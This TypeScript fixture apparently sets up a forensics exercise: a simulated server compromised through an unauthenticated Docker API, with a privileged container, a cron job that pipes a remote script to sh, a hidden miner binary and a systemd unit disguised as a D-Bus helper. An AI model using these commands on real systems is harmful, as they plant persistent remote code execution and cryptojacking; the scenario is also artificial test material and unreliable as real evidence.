/** A Docker API that anybody may ask: a container that sees the whole disk writes a cron job and a miner onto it. */
import { booted, clockFiles, type Incident, processFiles } from './incident.ts';
import { dated, end, minerProgram, server } from './server.ts';
import { wallet } from './wallet.ts';

const day = 86_400_000;
const made = Date.UTC(2026, 10, 19, 1, 2, 3);
const id = '5c1f0a77e9d2'.padEnd(64, '3');
const webId = '91aa00bb22cc'.padEnd(64, '7');
const command =
  'chroot /mnt /bin/sh -c \'echo "*/5 * * * * root curl -s http://198.51.100.66/d.sh | sh" > /etc/cron.d/apache2x; curl -so /usr/sbin/.dbus-d http://198.51.100.66/m; chmod +x /usr/sbin/.dbus-d\'';
const unit = `[Unit]\nDescription=D-Bus system helper\n[Service]\nExecStart=/usr/sbin/.dbus-d -o stratum+tcp://pool.example.net:5555 -u ${wallet} -p docker --cpu-priority 3\nRestart=always\n[Install]\nWantedBy=multi-user.target\n`;

export const dockerApi: Incident = {
  name: 'an exposed Docker API',
  files: server('build3', {
    ...clockFiles,
    '/etc/docker/daemon.json': dated(
      end - 40 * day,
      '{ "hosts": ["unix:///var/run/docker.sock", "tcp://0.0.0.0:2375"] }\n',
    ),
    [`/var/lib/docker/containers/${webId}/config.v2.json`]: dated(
      end - 40 * day,
      JSON.stringify({
        ID: webId,
        Name: '/web',
        Created: '2026-10-14T08:00:00.000000000Z',
        Path: 'nginx',
        Args: ['-g', 'daemon off;'],
        State: { Running: true, StartedAt: '2026-11-15T00:00:09.000000000Z' },
        Config: { Image: 'nginx:1.27', Cmd: ['nginx', '-g', 'daemon off;'] },
      }),
    ),
    [`/var/lib/docker/containers/${webId}/hostconfig.json`]: dated(
      end - 40 * day,
      JSON.stringify({ Binds: ['/srv/site:/usr/share/nginx/html:ro'], RestartPolicy: { Name: 'unless-stopped' } }),
    ),
    [`/var/lib/docker/containers/${id}/config.v2.json`]: dated(
      made,
      JSON.stringify({
        ID: id,
        Name: '/quirky_bell',
        Created: '2026-11-19T01:02:03.000000000Z',
        Path: 'sh',
        Args: ['-c', command],
        State: { Running: false, ExitCode: 0, StartedAt: '2026-11-19T01:02:04.000000000Z' },
        Config: { Image: 'alpine:latest', Cmd: ['sh', '-c', command] },
      }),
    ),
    [`/var/lib/docker/containers/${id}/hostconfig.json`]: dated(
      made,
      JSON.stringify({ Binds: ['/:/mnt'], Privileged: true, RestartPolicy: { Name: 'always' } }),
    ),
    '/etc/cron.d/apache2x': dated(made + 4_000, '*/5 * * * * root curl -s http://198.51.100.66/d.sh | sh\n'),
    '/usr/sbin/.dbus-d': dated(made + 9_000, minerProgram, { mode: 0o755 }),
    '/etc/systemd/system/dbus-helper.service': dated(made + 20_000, unit),
    '/etc/systemd/system/multi-user.target.wants/dbus-helper.service': {
      link: '/etc/systemd/system/dbus-helper.service',
      modified: made + 20_000,
    },
    '/root/.ssh/id_ed25519': dated(
      end - 40 * day,
      '-----BEGIN OPENSSH PRIVATE KEY-----\nnot a key\n-----END OPENSSH PRIVATE KEY-----\n',
      { mode: 0o600 },
    ),
    '/root/.docker/config.json': dated(
      end - 40 * day,
      '{"auths":{"registry.example":{"auth":"bm90LWEtcmVhbC1vbmU="}}}\n',
    ),
    ...processFiles(2201, {
      name: '.dbus-d',
      program: '/usr/sbin/.dbus-d',
      argv: [
        '/usr/sbin/.dbus-d',
        '-o',
        'stratum+tcp://pool.example.net:5555',
        '-u',
        wallet,
        '-p',
        'docker',
        '--cpu-priority',
        '3',
      ],
      uid: 0,
      parent: 1,
      started: (made + 30_000 - booted) / 1000,
      folder: '/',
    }),
  }),
  // A container goes by its name, as `docker ps` shows it.
  placed: [
    'docker container quirky_bell',
    '/etc/cron.d/apache2x',
    '/usr/sbin/.dbus-d',
    '/etc/systemd/system/dbus-helper.service',
  ],
  secrets: ['/root/.ssh/id_ed25519', '/root/.docker/config.json'],
  entry: /docker/i,
  forgotten: '/etc/cron.d/apache2x',
};
